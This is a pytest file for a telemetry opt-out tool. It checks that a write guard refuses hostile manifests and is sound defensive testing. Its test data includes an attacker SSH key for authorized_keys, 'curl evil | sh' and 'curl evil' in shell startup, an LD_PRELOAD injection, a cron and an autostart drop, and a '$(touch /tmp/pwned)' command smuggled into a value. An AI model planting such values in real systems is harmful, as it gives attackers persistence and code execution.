"""Hostile manifests and the one safety gate: nothing written outside the allowed area, and a clear refusal."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest
from changes_helpers import changes, plant, reports, tree_snapshot

from tracklight.changes import shellblock
from tracklight.changes.safety import OutsideAreaError, Scope, WriteGuard
from tracklight.core.manifest import load_manifest_file
from tracklight.core.model import Os, Source
from tracklight.errors import FormatError, UnsafePathError


def user_manifest(home: Path, tool_id: str, controls: str) -> Path:
    """A manifest in the user's disclosures folder (anyone with the user's rights can put one there)."""
    folder = home / ".local" / "share" / "telemetry-disclosures"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{tool_id}.toml"
    path.write_text(textwrap.dedent(f"""\
        manifest_version = 1
        id = "{tool_id}"
        name = "Hostile {tool_id}"

        [detect]
        paths = ["~"]

        [telemetry]
        tier = "full"
        default = "on"
        """) + textwrap.dedent(controls))
    return path


HOSTILE = {
    "traversal": ('path = "~/../../etc/x"\nformat = "plain"\noff = "off"\n',
                  "manifest from a user folder can never direct a write"),
    "ssh": ('path = "~/.ssh/authorized_keys"\nformat = "plain"\noff = "ssh-ed25519 AAAA attacker"\n',
            "holds credentials"),
    "bashrc": ('path = "~/.bashrc"\nformat = "shellvars"\nkey = "PROMPT_COMMAND"\noff = "curl evil"\n',
               "shell startup"),
    "absolute-etc": ('path = "/etc/cron.d/evil"\nformat = "plain"\noff = "x"\n',
                     "manifest from a user folder can never direct a write"),
    "own-env-file": ('path = "~/.config/tracklight/env.sh"\nformat = "shellvars"\nkey = "X"\noff = "1"\n',
                     "Tracklight's own files"),
    "environment-d": (('path = "~/.config/environment.d/99-evil.conf"\nformat = "keyvalue"\nkey = "LD_PRELOAD"\n'
                      'off = "/tmp/evil.so"\n'), "startup or autostart"),
    "autostart": (('path = "~/.config/autostart/evil.desktop"\nformat = "ini"\nkey = "Desktop Entry.Exec"\n'
                  'off = "evil"\n'), "startup or autostart"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_manifest_writes_nothing_and_says_why(case: str, home: Path, tmp_path: Path) -> None:
    control, reason = HOSTILE[case]
    plant(home / ".bashrc", "# my bashrc\n")
    plant(home / ".ssh" / "authorized_keys", "ssh-ed25519 AAAA me\n")
    user_manifest(home, f"evil-{case}", '[[telemetry.controls]]\nkind = "file"\n' + control)
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports(f"evil-{case}"))
    assert outcome.applied is None
    assert [f.tool_id for f in outcome.plan.failures] == [f"evil-{case}"]
    error = outcome.plan.failures[0].error
    assert isinstance(error, UnsafePathError)
    assert reason in str(error)
    assert tree_snapshot(tmp_path) == before


def test_symlink_pointing_out_of_home_is_not_followed(home: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = plant(outside / "config.json", '{"keep": true}\n')
    (home / ".config").mkdir()
    os.symlink(outside, home / ".config" / "evil")
    user_manifest(home, "evil-link", """\
        [[telemetry.controls]]
        kind = "file"
        path = "~/.config/evil/config.json"
        format = "json"
        key = "telemetry"
        off = false
        """)
    outcome = changes().optout(reports("evil-link"))
    error = outcome.plan.failures[0].error
    assert isinstance(error, UnsafePathError) and "symlink" in str(error) and "outside your home" in str(error)
    assert (outside / "config.json").read_bytes() == victim


def test_hostile_env_value_is_refused_before_anything_is_written(home: Path, tmp_path: Path) -> None:
    user_manifest(home, "evil-env", """\
        [[telemetry.controls]]
        kind = "env"
        name = "EVIL_TELEMETRY"
        off = "$(touch /tmp/pwned)"
        """)
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports("evil-env"))
    assert isinstance(outcome.plan.failures[0].error, FormatError)
    assert "quotes, $" in str(outcome.plan.failures[0].error)
    assert outcome.applied is None and tree_snapshot(tmp_path) == before


def test_a_hostile_tool_does_not_stop_the_others(home: Path) -> None:
    user_manifest(home, "evil-ssh", '[[telemetry.controls]]\nkind = "file"\n' + HOSTILE["ssh"][0])
    outcome = changes().optout(reports("evil-ssh", "dotnet"))
    assert [f.tool_id for f in outcome.plan.failures] == ["evil-ssh"]
    assert outcome.applied is not None and outcome.applied.tool_ids == ("dotnet",)
    assert not (home / ".ssh").exists()


# ---------------------------------------------------------------- the guard itself


def guard(scope: Scope = Scope.USER) -> WriteGuard:
    return WriteGuard.for_env(dict(os.environ), Os.LINUX, scope)


def catalog_tool(tool_id: str):  # type: ignore[no-untyped-def]
    return reports(tool_id)[0].tool


def test_catalog_system_file_in_user_scope_points_to_policy_apply(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    with pytest.raises(OutsideAreaError, match="tracklight policy apply"):
        guard().check_tool_file(str(sysroot / "etc/grafana/grafana.ini"), catalog_tool("grafana"))


def test_user_scope_allows_an_ordinary_preference_file(home: Path) -> None:
    path = home / ".config" / "Code" / "User" / "settings.json"
    assert guard().check_tool_file(str(path), catalog_tool("vscode")) == str(path)


def test_a_link_inside_home_to_a_dotfiles_folder_is_fine(home: Path) -> None:
    (home / "dotfiles" / "Code").mkdir(parents=True)
    (home / ".config").mkdir()
    os.symlink(home / "dotfiles" / "Code", home / ".config" / "Code")
    path = home / ".config" / "Code" / "settings.json"
    assert guard().check_tool_file(str(path), catalog_tool("vscode")) == str(home / "dotfiles/Code/settings.json")


def test_a_link_inside_home_to_credentials_is_refused(home: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".config").mkdir()
    os.symlink(home / ".ssh", home / ".config" / "innocent")
    with pytest.raises(UnsafePathError, match="credentials"):
        guard().check_tool_file(str(home / ".config/innocent/config"), catalog_tool("vscode"))


def test_system_scope_follows_the_catalog_but_never_into_forbidden_files(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    grafana = catalog_tool("grafana")
    target = sysroot / "etc/grafana/grafana.ini"
    assert guard(Scope.SYSTEM).check_tool_file(str(target), grafana) == str(target)
    for forbidden in ("etc/shadow", "etc/sudoers.d/x", "etc/profile.d/evil.sh", "root/.bashrc", "usr/bin/ls"):
        with pytest.raises(UnsafePathError, match="never writes"):
            guard(Scope.SYSTEM).check_tool_file(str(sysroot / forbidden), grafana)


def test_system_scope_refuses_a_symlink_out_of_the_root(home: Path, tmp_path: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    (sysroot / "etc").mkdir(parents=True)
    os.symlink(tmp_path / "elsewhere", sysroot / "etc" / "grafana")
    with pytest.raises(UnsafePathError, match="outside the system root"):
        guard(Scope.SYSTEM).check_tool_file(str(sysroot / "etc/grafana/grafana.ini"), catalog_tool("grafana"))


def _system_manifest(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "acme.toml"
    path.write_text('manifest_version = 1\nid = "acme"\nname = "Acme"\n[telemetry]\ntier = "full"\n'
                    'default = "on"\n')
    return path


def test_system_scope_follows_a_manifest_only_when_root_owns_it(home: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give files away (chown)")
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    target = str(sysroot / "etc/acme/config")
    path = _system_manifest(sysroot / "usr/share/telemetry-disclosures")
    path.chmod(0o644)
    path.parent.chmod(0o755)
    tool = load_manifest_file(path, Source.MANIFEST).tool
    assert tool is not None
    assert guard(Scope.SYSTEM).check_tool_file(target, tool) == target

    os.chown(path, 1000, 1000)
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(target, tool)
    os.chown(path, 0, 0)
    path.parent.chmod(0o775)  # a group that may add files there could plant its own
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(target, tool)


def test_system_scope_never_follows_a_manifest_from_a_home_folder(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    path = _system_manifest(home / ".local/share/telemetry-disclosures")
    path.chmod(0o644)
    tool = load_manifest_file(path, Source.MANIFEST).tool
    assert tool is not None
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(str(sysroot / "etc/acme/config"), tool)


def test_startup_files_may_change_only_by_tracklights_block(home: Path) -> None:
    profile = home / ".profile"
    before = b"export EDITOR=vi\n"
    env_sh = os.path.join(home, ".config/tracklight/env.sh")
    ours = shellblock.encode(shellblock.add_block(before.decode(), env_sh, str(home)))
    assert guard().check_env_file(str(profile), before, ours) == str(profile)
    sneaky = ours + b"curl evil | sh\n"
    with pytest.raises(UnsafePathError, match="only Tracklight's marked block"):
        guard().check_env_file(str(profile), before, sneaky)
    other_body = ours.replace(b"env.sh", b"evil.sh")
    with pytest.raises(UnsafePathError, match="only source its own env.sh"):
        guard().check_env_file(str(profile), before, other_body)
    with pytest.raises(UnsafePathError, match="credentials"):
        guard().check_env_file(str(home / ".ssh/rc"), None, ours)
